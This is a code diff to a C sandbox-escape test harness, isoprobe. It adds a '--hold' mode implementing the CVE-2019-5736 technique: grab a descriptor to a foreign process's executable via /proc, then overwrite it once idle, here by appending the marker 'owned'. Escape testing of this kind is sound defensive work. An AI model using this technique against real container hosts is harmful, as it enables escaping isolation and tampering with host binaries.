@@ -3,6 +3,7 @@
  *        isoprobe --from FIFO		run the families whose names come as lines, one at a time
  *        isoprobe --list		print id and purpose of each
  *        isoprobe --flip A B	exchange the two names for ever, for races
+ *        isoprobe --hold		hold the program of whatever comes by, and write it when it is idle
  *
  * One line for each probe: id, result, errno, detail, with tabs between them; then "done PREFIX".
  * Each runs in a process of its own, so that one that is killed is just another result.  None runs
@@ -19,13 +20,14 @@
 #include <string.h>
 #include <sys/mman.h>
 #include <sys/prctl.h>
+#include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
 #include "tests/escape/probe.h"
 
-enum { PROBE_SECONDS = 60, MAX_PREFIX = 64 };
+enum { PROBE_SECONDS = 60, MAX_PREFIX = 64, HOLD_TRIES = 1000 };
 
 static const struct probe_table *const tables[] = {
 	&probes_exec, &probes_mounts, &probes_credentials, &probes_kernel_files,
@@ -290,6 +292,51 @@ static int flip(const char *a, const char *b)
 	}
 }
 
+/* Open what PID runs, unless it is what the task runs itself. */
+static void hold_program(pid_t pid, void *arg)
+{
+	char path[64];
+	struct stat own, st;
+	int fd, *held = arg;
+
+	(void)snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
+	if (*held >= 0 || stat("/proc/self/exe", &own) < 0 || stat(path, &st) < 0 ||
+	    (own.st_ino == st.st_ino && own.st_dev == st.st_dev))
+		return;
+	fd = open(path, O_RDONLY | O_CLOEXEC);
+	/* It may have become something of ours in between. */
+	if (fd >= 0 && fstat(fd, &st) == 0 && st.st_ino != own.st_ino)
+		*held = fd;
+	else if (fd >= 0)
+		(void)close(fd);
+}
+
+/* CVE-2019-5736: busy now, a program can be written when its last process has ended. */
+static int hold(void)
+{
+	int held = -1;
+	char path[64];
+
+	puts("watching");
+	(void)fflush(stdout);
+	while (held < 0)
+		visit_foreign(hold_program, &held);
+	puts("held");
+	(void)fflush(stdout);
+	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
+	for (int i = 0; i < HOLD_TRIES; i++) {
+		int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
+
+		if (fd >= 0 && write(fd, "owned", 5) == 5) {
+			puts("written");
+			return 0;
+		}
+		(void)usleep(1000);
+	}
+	printf("refused %s\n", strerrorname_np(errno));
+	return 0;
+}
+
 static void list(void)
 {
 	for (size_t t = 0; t < ARRAY_SIZE(tables); t++) {
@@ -320,6 +367,8 @@ int main(int argc, char **argv)
 			"start them as a task\n");
 		return 1;
 	}
+	if (argc == 2 && strcmp(argv[1], "--hold") == 0)
+		return hold();
 	if (argc == 3 && strcmp(argv[1], "--from") == 0)
 		return run_from(argv[2], shared);
 	for (int i = 1; i < argc; i++)
